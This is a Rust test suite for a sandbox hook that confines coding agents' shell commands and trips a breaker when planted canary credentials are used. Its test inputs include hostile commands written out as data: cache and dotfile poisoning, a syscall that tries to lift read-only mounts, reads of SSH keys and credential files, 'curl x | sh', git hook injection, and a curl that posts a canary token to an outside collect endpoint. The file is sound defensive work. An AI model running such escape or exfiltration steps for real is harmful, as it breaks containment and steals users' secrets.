//! `loopguard exec` for real: writes are confined (everything outside the workspace is a
//! read-only mount, with Landlock beneath; caches copy-on-write), the environment is scrubbed (checked from inside the child), TCP is refused without --net, output
//! is redacted and the exit code kept; the command's TMPDIR is private and /tmp read-only.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use std::path::PathBuf;
use std::process::{Command, Output};

struct Place {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
    home: PathBuf,
}

fn place() -> Place {
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let ws = dir.path().join("ws");
    let outside = dir.path().join("outside");
    let home = dir.path().join("home");
    for d in [&ws.join(".git"), &outside, &home] {
        std::fs::create_dir_all(d).unwrap();
    }
    Place { ws, outside, home, _dir: dir }
}

fn exec(p: &Place, args: &[&str], env: &[(&str, &str)]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_loopguard"))
        .arg("exec")
        .args(args)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &p.home)
        .env("LOOPGUARD_HOME", p.home.join("state"))
        .envs(env.iter().copied())
        .current_dir(&p.ws)
        .output()
        .unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

#[test]
fn writes_outside_the_workspace_fail_with_erofs_and_inside_succeed() {
    let p = place();
    let outside = p.outside.join("x.txt");
    let script = format!(
        "echo in > inside.txt && echo ok-inside; echo out > {} 2>/dev/null || echo denied-outside",
        outside.display()
    );
    let out = exec(&p, &["--", "sh", "-c", &script], &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "ok-inside\ndenied-outside\n");
    assert!(p.ws.join("inside.txt").exists());
    assert!(!outside.exists());
    // The errno itself, from Python: everything outside is a read-only mount in the sandbox
    // (Landlock, underneath, would say EACCES); a change of mode or owner is refused the same way.
    let py = format!(
        "import errno, os\nfor f in (lambda: open('{0}','w'), lambda: os.chmod('{1}', 0o777), lambda: os.utime('{1}')):\n try:\n  f(); print('DONE')\n except OSError as e:\n  print(errno.errorcode[e.errno])",
        outside.display(),
        p.outside.display()
    );
    let out = exec(&p, &["--", "python3", "-c", &py], &[]);
    assert_eq!(text(&out.stdout), "EROFS\nEROFS\nEROFS\n", "{}", text(&out.stderr));
    // Read-only writes nowhere, not even in the workspace.
    let out = exec(&p, &["--profile", "read-only", "--", "sh", "-c", "echo x > ro.txt || echo denied"], &[]);
    assert_eq!(text(&out.stdout).trim(), "denied");
    assert!(!p.ws.join("ro.txt").exists());
}

/// Nothing that runs later outside the sandbox can be changed from inside it: a package cache
/// takes the command's writes into a layer of the workspace's own (which the next confined call
/// sees), the real cache never changes; HOME's mode, its dotfiles and the workspace's git
/// configuration cannot be changed either.
#[test]
fn caches_are_copy_on_write_and_home_cannot_be_changed() {
    let p = place();
    let cache = p.home.join(".cache/pre-commit");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::write(cache.join("hook.py"), "print('real')\n").unwrap();
    std::fs::write(p.home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(p.ws.join(".git/config"), "[core]\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    let mode = |f: &std::path::Path| std::fs::metadata(f).unwrap().permissions().mode() & 0o7777;
    let home_mode = mode(&p.home);
    let poison = format!(
        "echo \"print('poisoned')\" > {0}/hook.py && echo new > {0}/added && echo wrote-cache; \
         chmod 777 {1} || echo no-chmod; echo evil >> {1}/.bashrc || echo no-rc; \
         echo evil >> .git/config || echo no-gitconfig",
        cache.display(),
        p.home.display()
    );
    let out = exec(&p, &["--", "sh", "-c", &poison], &[]);
    assert_eq!(text(&out.stdout), "wrote-cache\nno-chmod\nno-rc\nno-gitconfig\n", "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(cache.join("hook.py")).unwrap(), "print('real')\n");
    assert!(!cache.join("added").exists(), "a write reached the real cache");
    assert_eq!(mode(&p.home), home_mode);
    assert_eq!(std::fs::read_to_string(p.home.join(".bashrc")).unwrap(), "# rc\n");
    assert_eq!(std::fs::read_to_string(p.ws.join(".git/config")).unwrap(), "[core]\n");
    // The next confined call in the same workspace finds what the first one wrote.
    let out = exec(&p, &["--", "cat", &format!("{}/added", cache.display())], &[]);
    assert_eq!(text(&out.stdout), "new\n", "{}", text(&out.stderr));
}

/// The command holds no capability, even for a user who is root: it cannot make the read-only
/// mounts writable again (`mount_setattr`, which Landlock does not see) and then change HOME.
#[test]
fn the_command_has_no_capabilities_even_as_root() {
    let p = place();
    let py = format!(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nattr = (ctypes.c_uint64 * 4)(0, 1, 0, 0)\nr = libc.syscall(442, -100, b'/', 0, attr, 32)\nprint('setattr', r)\ntry:\n os.chmod('{}', 0o777); print('chmod-done')\nexcept OSError as e:\n print('chmod-refused')\nprint(open('/proc/self/status').read().split('CapEff:')[1].split()[0])",
        p.home.display()
    );
    let out = exec(&p, &["--", "python3", "-c", &py], &[]);
    assert_eq!(text(&out.stdout), "setattr -1\nchmod-refused\n0000000000000000\n", "{}", text(&out.stderr));
}

/// Nothing outside takes orders from inside: a process outside the command's own tree cannot be
/// signalled (Landlock scoping, where the kernel has it), and a daemon's UNIX socket (here a
/// container engine's under the home) is covered.
#[test]
fn a_command_cannot_signal_outside_or_reach_a_daemon_socket() {
    let p = place();
    let mut outside = Command::new("sleep").arg("60").spawn().unwrap();
    let sock_dir = p.home.join(".colima/default");
    std::fs::create_dir_all(&sock_dir).unwrap();
    let listener = std::os::unix::net::UnixListener::bind(sock_dir.join("docker.sock")).unwrap();
    let script = format!(
        "kill {} 2>/dev/null && echo killed || echo no-kill; sleep 30 & kill $! && echo own-child; \
         python3 -c \"import socket; s=socket.socket(socket.AF_UNIX)\ntry: s.connect('{}'); print('connected')\nexcept OSError: print('refused')\"",
        outside.id(),
        sock_dir.join("docker.sock").display()
    );
    let out = exec(&p, &["--", "sh", "-c", &script], &[]);
    let said = text(&out.stdout);
    assert!(said.ends_with("own-child\nrefused\n"), "{said} {}", text(&out.stderr));
    // In the session's PID namespace the process outside has no number (without a session,
    // Landlock's signal scoping refuses it, on Linux 6.12 and later).
    assert!(said.starts_with("no-kill\n"), "a process outside was signalled from inside: {said}");
    assert!(outside.try_wait().unwrap().is_none(), "the process outside died");
    let _ = outside.kill();
    let _ = outside.wait();
    drop(listener);
}

/// One sandbox session per workspace: a server one confined call starts is reachable from the next
/// (offline calls share the session's loopback-only network namespace) and can be stopped by a
/// later one (they share its PID namespace, where the user's own processes have no number).
#[test]
fn calls_share_a_session_where_servers_stay_reachable_and_stoppable() {
    let p = place();
    let server = "import http.server as h, socketserver as s\nsrv = s.TCPServer(('127.0.0.1', 0), h.SimpleHTTPRequestHandler)\nopen('port', 'w').write(str(srv.server_address[1]))\nsrv.serve_forever()\n";
    std::fs::write(p.ws.join("server.py"), server).unwrap();
    let start = "setsid python3 server.py >/dev/null 2>&1 & for i in $(seq 50); do [ -s port ] && break; sleep 0.1; done; echo started";
    let out = exec(&p, &["--", "sh", "-c", start], &[]);
    assert_eq!(text(&out.stdout), "started\n", "{}", text(&out.stderr));
    let port = std::fs::read_to_string(p.ws.join("port")).unwrap();
    let get = format!("import urllib.request as u; print(u.urlopen('http://127.0.0.1:{port}/port').status)");
    let out = exec(&p, &["--", "python3", "-c", &get], &[]);
    assert_eq!(text(&out.stdout), "200\n", "{}", text(&out.stderr));
    // A later call sees the session's processes, not the user's, and may stop the server.
    let mut outside = Command::new("sleep").arg("60").spawn().unwrap();
    std::fs::write(p.ws.join("stop.sh"), "pkill -f 'python3 server.py' && echo stopped\n").unwrap();
    let out = exec(&p, &["--", "sh", "stop.sh"], &[]);
    assert_eq!(text(&out.stdout), "stopped\n", "{}", text(&out.stderr));
    let ps = format!("kill {} 2>/dev/null && echo killed-outside || echo no-such-process", outside.id());
    let out = exec(&p, &["--", "sh", "-c", &ps], &[]);
    assert_eq!(text(&out.stdout), "no-such-process\n", "{}", text(&out.stderr));
    assert!(outside.try_wait().unwrap().is_none(), "a process outside the session died");
    let _ = outside.kill();
    let _ = outside.wait();
    // Output larger than a pipe streams through (the waiting parent never blocks the spawn), and
    // `kill -9 0` from inside ends the command's own group, never `loopguard exec` or the host.
    let out = exec(&p, &["--", "python3", "-c", "print('x' * 200000)"], &[]);
    assert_eq!(out.stdout.len(), 200_001, "{}", text(&out.stderr));
    let out = exec(&p, &["--", "sh", "-c", "kill -9 0"], &[]);
    assert_eq!(out.status.code(), Some(137), "loopguard exec itself was killed: {:?}", out.status);
}

/// A host may run a confined command in a directory of the model's choosing (Codex's `workdir`,
/// Gemini's `dir_path`): the workspace the hook names still bounds the writes.
#[test]
fn the_named_workspace_bounds_the_sandbox_wherever_the_command_runs() {
    let p = place();
    let ws = p.ws.to_str().unwrap().to_string();
    let script = "echo x > here.txt 2>/dev/null && echo wrote-cwd || echo denied-cwd";
    let out = Command::new(env!("CARGO_BIN_EXE_loopguard"))
        .args(["exec", "--workspace", &ws, "--", "sh", "-c", script])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &p.home)
        .env("LOOPGUARD_HOME", p.home.join("state"))
        // Run from outside the workspace: without --workspace this directory would be the root.
        .current_dir(&p.outside)
        .output()
        .unwrap();
    assert_eq!(text(&out.stdout), "denied-cwd\n", "{}", text(&out.stderr));
    assert!(!p.outside.join("here.txt").exists());
    let rel = exec(&p, &["--workspace", "ws", "--", "true"], &[]);
    assert_ne!(rel.status.code(), Some(0));
    assert!(text(&rel.stderr).contains("--workspace must be an absolute path"), "{}", text(&rel.stderr));
}

#[test]
fn the_environment_is_scrubbed_as_the_child_sees_it() {
    let p = place();
    let env = [("GITHUB_TOKEN", "t"), ("DB_PASSWORD", "p"), ("AWS_REGION", "eu"), ("BUILD_MODE", "fast")];
    let out = exec(&p, &["--", "sh", "-c", "env | sort"], &env);
    let seen = text(&out.stdout);
    assert!(seen.contains("BUILD_MODE=fast") && seen.contains("PATH="), "{seen}");
    for gone in ["GITHUB_TOKEN", "DB_PASSWORD", "AWS_REGION"] {
        assert!(!seen.contains(gone), "{gone} leaked: {seen}");
    }
    // An allowlisted name survives, until a breaker trip revokes the workspace's credentials.
    std::fs::create_dir_all(p.home.join(".config/loopguard")).unwrap();
    std::fs::write(p.home.join(".config/loopguard/policy.toml"), "[exec]\nenv_allow = [\"AWS_REGION\"]\n").unwrap();
    let out = exec(&p, &["--", "sh", "-c", "env"], &env);
    assert!(text(&out.stdout).contains("AWS_REGION=eu"));
    let trip = Command::new(env!("CARGO_BIN_EXE_loopguard"))
        .args(["breaker", "trip", "--to", "pr_only", "--reason", "test"])
        .env_clear()
        .env("HOME", &p.home)
        .env("LOOPGUARD_HOME", p.home.join("state"))
        .current_dir(&p.ws)
        .output()
        .unwrap();
    assert!(trip.status.success(), "{}", text(&trip.stderr));
    let out = exec(&p, &["--", "sh", "-c", "env"], &env);
    assert!(!text(&out.stdout).contains("AWS_REGION"), "revoked credentials are scrubbed");
}

#[test]
fn tcp_is_refused_without_net_and_allowed_with_it() {
    let p = place();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || for _ in listener.incoming() {});
    let py = format!(
        "import socket, errno\ntry:\n socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\nexcept OSError as e:\n print(errno.errorcode.get(e.errno, e))"
    );
    // Offline, the call is in its session's network namespace: the host's loopback (where this
    // listener is) is not reachable from there, and nothing else is either.
    let out = exec(&p, &["--", "python3", "-c", &py], &[]);
    assert_eq!(text(&out.stdout).trim(), "ECONNREFUSED", "{}", text(&out.stderr));
    let out = exec(&p, &["--net", "--", "python3", "-c", &py], &[]);
    assert_eq!(text(&out.stdout).trim(), "connected", "{}", text(&out.stderr));
    // A command that fails offline is told why, and what works instead.
    let fail = format!("{py}\nraise SystemExit(3)");
    let out = exec(&p, &["--", "python3", "-c", &fail], &[]);
    assert_eq!(out.status.code(), Some(3));
    assert!(text(&out.stderr).contains("ran without the network"), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("`cargo fetch`"), "{}", text(&out.stderr));
    // The user may name commands that keep it (one plain command, first words as written).
    std::fs::create_dir_all(p.home.join(".config/loopguard")).unwrap();
    std::fs::write(p.home.join(".config/loopguard/policy.toml"), "[exec]\nnetwork_for = [\"python3 conn.py\"]\n")
        .unwrap();
    std::fs::write(p.ws.join("conn.py"), &py).unwrap();
    let out = exec(&p, &["--", "python3", "conn.py"], &[]);
    assert_eq!(text(&out.stdout).trim(), "connected", "{}", text(&out.stderr));
    let out = exec(&p, &["--", "sh", "-c", "true; python3 conn.py"], &[]);
    assert_eq!(text(&out.stdout).trim(), "ECONNREFUSED", "{}", text(&out.stderr));
}

#[test]
fn output_is_redacted_and_the_exit_code_kept() {
    let p = place();
    let token = format!("ghp_{}", "NUhJduRHHJEYXg4JdpmrcXgGCJbW56eCuNGM");
    let out = exec(&p, &["--", "sh", "-c", &format!("echo token {token}; echo err {token} >&2; exit 7")], &[]);
    assert_eq!(out.status.code(), Some(7));
    let (so, se) = (text(&out.stdout), text(&out.stderr));
    assert!(!so.contains(&token) && so.contains("[REDACTED:github-pat]"), "{so}");
    assert!(!se.contains(&token) && se.contains("[REDACTED:github-pat]"), "{se}");
    let out = exec(&p, &["--", "no-such-program-xyz"], &[]);
    assert_eq!(out.status.code(), Some(126));
    assert!(text(&out.stderr).contains("cannot run `no-such-program-xyz`"), "{}", text(&out.stderr));
}

fn hook(p: &Place, command: &str) -> serde_json::Value {
    use std::io::Write;
    let ev = serde_json::json!({
        "session_id": "s", "transcript_path": "/t", "cwd": p.ws, "permission_mode": "bypassPermissions",
        "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": "t"
    });
    let mut child = Command::new(env!("CARGO_BIN_EXE_loopguard"))
        .args(["hook", "claude-code"])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &p.home)
        .env("LOOPGUARD_HOME", p.home.join("state"))
        .env("LOOPGUARD_EFFECTS", "manual")
        .current_dir(&p.ws)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(ev.to_string().as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null)
}

#[test]
fn with_wrap_bash_the_hook_rewrites_allowed_bash_calls_into_the_sandbox() {
    let p = place();
    // On by default where the kernel can confine (as here). A command the analysis knows works
    // offline runs without the network.
    let v = hook(&p, "echo hi > out.txt");
    let wrapped = v["hookSpecificOutput"]["updatedInput"]["command"].as_str().unwrap_or_default();
    assert!(wrapped.contains(" exec --profile workspace-write --workspace "), "{v}");
    assert!(!wrapped.contains(" --net "), "{v}");
    // Only the user may switch it off; then an allowed call is answered with nothing.
    std::fs::create_dir_all(p.home.join(".config/loopguard")).unwrap();
    std::fs::write(p.home.join(".config/loopguard/policy.toml"), "[exec]\nwrap_bash = false\n").unwrap();
    assert!(hook(&p, "echo hi").is_null());
    std::fs::write(p.home.join(".config/loopguard/policy.toml"), "[exec]\nwrap_bash = true\n").unwrap();
    // Python copying through a library is code the analysis does not follow: unattended, it is
    // allowed only inside the sandbox, where the kernel refuses the write outside. Nothing in it
    // names a need for the network, so the sandbox runs it without.
    let outside = p.outside.join("escaped.txt");
    let cmd = format!(
        "python3 -c \"import shutil; shutil.copyfile('/etc/hostname', '{}')\"; echo written > inside.txt",
        outside.display()
    );
    let v = hook(&p, &cmd);
    let h = &v["hookSpecificOutput"];
    assert_eq!(h["permissionDecision"], "allow", "{v}");
    let wrapped = h["updatedInput"]["command"].as_str().unwrap();
    assert!(wrapped.contains(" exec --profile workspace-write --workspace "), "{wrapped}");
    let run = Command::new("bash")
        .args(["-c", wrapped])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &p.home)
        .env("LOOPGUARD_HOME", p.home.join("state"))
        .current_dir(&p.ws)
        .output()
        .unwrap();
    assert!(text(&run.stderr).contains("Read-only file system"), "{}", text(&run.stderr));
    assert!(!outside.exists(), "the kernel let the write out");
    assert_eq!(std::fs::read_to_string(p.ws.join("inside.txt")).unwrap(), "written\n");
    // The network when the analysis saw the command reach it or names a need (downloading is
    // its job); a build or a test runs without; observe-level commands read only.
    for (cmd, net) in [
        ("curl -sS https://example.com", true),
        // Loopback only: the session's own loopback, not the network.
        ("curl -s http://localhost:3000/health", false),
        ("npm ci", true),
        ("timeout 60 python3 -m pip install -r requirements.txt", true),
        ("git -C sub fetch origin", true),
        ("cargo fetch", true),
        ("npm test", false),
        ("npm ci --offline", false),
        ("mvn -q test dependency:resolve", false),
        ("cargo build --release", false),
        ("make check", false),
        ("go test ./...", false),
    ] {
        let v = hook(&p, cmd);
        let wrapped = v["hookSpecificOutput"]["updatedInput"]["command"].as_str().unwrap_or_default().to_string();
        assert!(wrapped.contains(" exec --profile "), "{cmd}: {v}");
        assert_eq!(wrapped.contains(" --net --workspace "), net, "{cmd}: {wrapped}");
    }
    let v = hook(&p, "ls -la");
    assert!(
        v["hookSpecificOutput"]["updatedInput"]["command"].as_str().unwrap().contains("--profile read-only"),
        "{v}"
    );
}

#[test]
fn canaries_planted_by_exec_trip_the_breaker_when_an_agent_uses_them() {
    let p = place();
    std::fs::create_dir_all(p.home.join(".config/loopguard")).unwrap();
    std::fs::write(
        p.home.join(".config/loopguard/policy.toml"),
        "[exec]\ncanary_env = [\"GITHUB_TOKEN\", \"STRIPE_API_KEY\"]\ncanary_file = true\n",
    )
    .unwrap();
    let out = exec(
        &p,
        &["--", "sh", "-c", "test -n \"$GITHUB_TOKEN\" && test -r \"$AWS_SHARED_CREDENTIALS_FILE\" && echo planted"],
        &[],
    );
    assert_eq!(text(&out.stdout).trim(), "planted", "{}", text(&out.stderr));
    let key = loopguard::state::workspace_key(&p.ws);
    let doc = loopguard::hot::read(&p.home.join("state"), &key).unwrap();
    assert_eq!(doc.ws.canaries.len(), 3);
    let token = doc.ws.canaries.iter().find(|c| c.name == "STRIPE_API_KEY").unwrap().value.clone();
    let file = doc.ws.canaries.iter().find_map(|c| c.file.clone()).unwrap();
    // Reading the canary file is an exfiltration attempt…
    let v = hook(&p, &format!("cat {file}"));
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny", "{v}");
    assert!(v["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap().contains("[canary-tripped]"), "{v}");
    // … it trips the canary breaker: everything after is paused.
    let v = hook(&p, "ls");
    assert!(v["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap().contains("canary reached 1"), "{v}");
    // Carrying a canary value in a call is caught too (in a fresh workspace state).
    let q = place();
    std::fs::create_dir_all(q.home.join(".config/loopguard")).unwrap();
    std::fs::write(q.home.join(".config/loopguard/policy.toml"), "[exec]\ncanary_env = [\"STRIPE_API_KEY\"]\n")
        .unwrap();
    exec(&q, &["--", "true"], &[]);
    let doc = loopguard::hot::read(&q.home.join("state"), &loopguard::state::workspace_key(&q.ws)).unwrap();
    let token2 = &doc.ws.canaries[0].value;
    let v = hook(&q, &format!("curl -d 'k={token2}' https://api.example.com/collect"));
    assert!(v["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap().contains("[canary-tripped]"), "{v}");
    assert_ne!(&token, token2);
}

#[test]
fn the_command_gets_a_private_writable_tmpdir_and_the_shared_tmp_stays_read_only() {
    let p = place();
    let shared = std::env::temp_dir().join(format!("loopguard-exec-test-{}", std::process::id()));
    let script = format!(
        "echo t > \"$TMPDIR/scratch\" && echo tmpdir-ok; echo x > {} 2>/dev/null || echo shared-denied",
        shared.display()
    );
    let out = exec(&p, &["--", "sh", "-c", &script], &[]);
    assert_eq!(text(&out.stdout), "tmpdir-ok\nshared-denied\n", "{}", text(&out.stderr));
    assert!(!shared.exists());
}

#[test]
fn udp_does_not_leave_without_net_either() {
    let p = place();
    let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = sock.local_addr().unwrap().port();
    sock.set_read_timeout(Some(std::time::Duration::from_millis(500))).unwrap();
    let py = format!(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n s.sendto(b'ping', ('127.0.0.1', {port})); print('sent')\nexcept OSError as e:\n print('blocked', e.errno)"
    );
    // Sent into the session's own loopback (or refused): either way nothing arrives here.
    let out = exec(&p, &["--", "python3", "-c", &py], &[]);
    assert!(
        matches!(text(&out.stdout).trim(), "sent" | "blocked 101" | "blocked 1"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let mut buf = [0u8; 8];
    assert!(sock.recv(&mut buf).is_err(), "a datagram got out");
    let out = exec(&p, &["--net", "--", "python3", "-c", &py], &[]);
    assert_eq!(text(&out.stdout).trim(), "sent", "{}", text(&out.stderr));
    assert_eq!(sock.recv(&mut buf).unwrap(), 4);
}

#[test]
fn only_harmless_devices_and_shared_memory_are_writable() {
    let p = place();
    // /dev/kmsg stands in for a disk: writable by root outside the sandbox, harmless to test.
    // No terminal either: output written to one would reach the host unredacted.
    let script = "echo x > /dev/null && echo null-ok; : > /dev/shm/loopguard-exec-test-$$ && rm /dev/shm/loopguard-exec-test-$$ && echo shm-ok; \
                  echo loopguard-exec-test > /dev/kmsg 2>/dev/null || echo kmsg-denied; \
                  true > /dev/ptmx 2>/dev/null || echo ptmx-denied; echo x > /dev/tty 2>/dev/null || echo tty-denied";
    let out = exec(&p, &["--", "sh", "-c", script], &[]);
    assert_eq!(text(&out.stdout), "null-ok\nshm-ok\nkmsg-denied\nptmx-denied\ntty-denied\n", "{}", text(&out.stderr));
}

/// The separate inner process (used when `exec` is not single-threaded) confines exactly as the
/// forked child does: writes outside the roots refused, inside fine, credentials hidden.
#[test]
fn the_separate_inner_process_confines_like_the_forked_child() {
    let p = place();
    std::fs::create_dir_all(p.home.join(".ssh")).unwrap();
    std::fs::write(p.home.join(".ssh/id_ed25519"), "KEY\n").unwrap();
    let outside = p.outside.join("x.txt");
    let script = format!(
        "echo in > inside.txt && echo ok-inside; echo out > {} 2>/dev/null || echo denied-outside; cat {}/.ssh/id_ed25519 2>/dev/null || echo hidden",
        outside.display(),
        p.home.display()
    );
    let out = Command::new(env!("CARGO_BIN_EXE_loopguard"))
        .args(["__exec-inner", "--profile", "workspace-write", "--root"])
        .arg(&p.ws)
        .arg("--hide")
        .arg(p.home.join(".ssh"))
        .args(["--", "sh", "-c", &script])
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .current_dir(&p.ws)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "ok-inside\ndenied-outside\nhidden\n");
    assert!(!outside.exists());
}

/// A command that cannot start is reported and exits 126, from the forked child's error pipe.
#[test]
fn a_missing_program_is_reported_with_exit_126() {
    let p = place();
    let out = exec(&p, &["--", "no-such-program-loopguard"], &[]);
    assert_eq!(out.status.code(), Some(126));
    assert!(text(&out.stderr).contains("cannot run `no-such-program-loopguard`"), "{}", text(&out.stderr));
}

/// One list drives both layers: whatever the policy's `secret_read` names is unreadable inside the
/// sandbox too — tool configuration with registry passwords, the host's own credentials, the
/// workspace's secret files (at any depth the walk reaches) — unless `[exec] secrets_for` names
/// the command, which then reads the workspace's secret files (never the home's).
#[test]
fn what_the_policy_calls_secret_is_hidden_inside_the_sandbox_too() {
    let p = place();
    let put = |path: PathBuf, text: &str| {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    put(p.home.join(".m2/settings.xml"), "<password>m2-secret</password>\n");
    put(p.home.join(".gradle/gradle.properties"), "signing.password=gradle-secret\n");
    put(p.home.join(".claude.json"), "{\"token\":\"claude-secret\"}\n");
    put(p.home.join(".bundle/config"), "BUNDLE_GEMS__EXAMPLE__COM: \"user:bundle-secret\"\n");
    put(p.home.join(".gitconfig"), "[user]\n\tname = dev\n");
    put(p.ws.join(".env"), "API=ws-secret\n");
    put(p.ws.join("config/master.key"), "key-secret\n");
    put(p.ws.join("src/app.py"), "print('ok')\n");
    // The user adds a path of their own; it is hidden too.
    put(p.home.join(".config/loopguard/policy.toml"), "version = 1\n[paths]\nsecret_read = [\"~/.bundle/config\"]\n");
    let files = [".m2/settings.xml", ".gradle/gradle.properties", ".claude.json", ".bundle/config", ".gitconfig"];
    let mut script: String = files.iter().map(|f| format!("cat \"$HOME/{f}\" 2>/dev/null; ")).collect();
    script.push_str("cat .env config/master.key src/app.py 2>/dev/null; true");
    let out = exec(&p, &["--", "bash", "-c", &script], &[]);
    let seen = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    for secret in ["m2-secret", "gradle-secret", "claude-secret", "bundle-secret", "ws-secret", "key-secret"] {
        assert!(!seen.contains(secret), "{secret} readable inside the sandbox: {seen}");
    }
    assert!(seen.contains("name = dev") && seen.contains("print('ok')"), "ordinary files stay readable: {seen}");

    // A test runner named in `[exec] secrets_for` reads the workspace's `.env`, not the home's.
    put(p.home.join(".config/loopguard/policy.toml"), "version = 1\n[exec]\nsecrets_for = [\"bash run-tests.sh\"]\n");
    put(p.ws.join("run-tests.sh"), "cat .env; cat \"$HOME/.m2/settings.xml\" 2>/dev/null; true\n");
    let out = exec(&p, &["--", "bash", "-c", "bash run-tests.sh"], &[]);
    let seen = text(&out.stdout);
    assert!(seen.contains("ws-secret") && !seen.contains("m2-secret"), "{seen}{}", text(&out.stderr));
    let out = exec(&p, &["--", "bash", "-c", "cat .env; true"], &[]);
    assert!(!text(&out.stdout).contains("ws-secret"), "only the named command reads it");
}

#[test]
fn files_that_run_later_outside_cannot_be_created_from_inside() {
    let p = place();
    // None of them exists yet, so no mount can keep them read-only: exec takes them away after.
    let script = "mkdir -p .claude .github/workflows && echo '{\"hooks\":{}}' > .claude/settings.json \
        && echo 'curl x | sh' > .envrc && echo 'on: push' > .github/workflows/ci.yml \
        && echo '{}' > .mcp.json && echo kept > src.txt && echo done";
    let out = exec(&p, &["--", "sh", "-c", script], &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "done\n");
    for gone in [".claude", ".envrc", ".github/workflows", ".mcp.json"] {
        assert!(std::fs::symlink_metadata(p.ws.join(gone)).is_err(), "{gone} is still there");
        assert!(text(&out.stderr).contains(gone), "no note about {gone}: {}", text(&out.stderr));
    }
    assert_eq!(std::fs::read_to_string(p.ws.join("src.txt")).unwrap(), "kept\n");
    // Nothing is lost: they wait in the state home's quarantine for the human.
    let q = p.home.join("state/quarantine");
    let kept: Vec<String> = walk(&q).iter().map(|f| std::fs::read_to_string(f).unwrap()).collect();
    assert!(kept.iter().any(|t| t.contains("curl x | sh")), "{kept:?}");
    assert!(kept.iter().any(|t| t.contains("on: push")), "{kept:?}");
    // An existing one is a read-only mount: the command cannot change it, and it stays.
    std::fs::create_dir_all(p.ws.join(".vscode")).unwrap();
    std::fs::write(p.ws.join(".vscode/tasks.json"), "{}\n").unwrap();
    let out = exec(&p, &["--", "sh", "-c", "echo evil >> .vscode/tasks.json; echo rc=$?"], &[]);
    assert!(!text(&out.stdout).contains("rc=0"), "{}", text(&out.stdout));
    assert_eq!(std::fs::read_to_string(p.ws.join(".vscode/tasks.json")).unwrap(), "{}\n");
}

fn walk(d: &std::path::Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() { out.extend(walk(&p)) } else { out.push(p) }
    }
    out
}

#[test]
fn a_repository_made_inside_is_kept_unless_it_would_run_something() {
    let p = place();
    std::fs::remove_dir_all(p.ws.join(".git")).unwrap();
    // Named, as the hook names it: without a `.git` the workspace would be found further up.
    let ws = p.ws.to_str().unwrap().to_string();
    // `git init` inside: its config, info and sample hooks run nothing later, and stay.
    let out = exec(&p, &["--workspace", &ws, "--", "sh", "-c", "git init -q && echo ok"], &[]);
    assert_eq!(text(&out.stdout), "ok\n", "{}", text(&out.stderr));
    assert!(p.ws.join(".git/config").is_file() && p.ws.join(".git/hooks").is_dir(), "{}", text(&out.stderr));
    let status = Command::new("git").args(["-C"]).arg(&p.ws).args(["status", "--short"]).output().unwrap();
    assert!(status.status.success(), "{}", text(&status.stderr));
    // A config that names a program, or a hook that runs, is taken away.
    std::fs::remove_dir_all(p.ws.join(".git")).unwrap();
    let script = "git init -q && git config core.fsmonitor 'sh -c x' && echo 'exit 0' > .git/hooks/post-checkout";
    let out = exec(&p, &["--workspace", &ws, "--", "sh", "-c", script], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(!p.ws.join(".git/config").exists() && !p.ws.join(".git/hooks").exists(), "{}", text(&out.stderr));
}
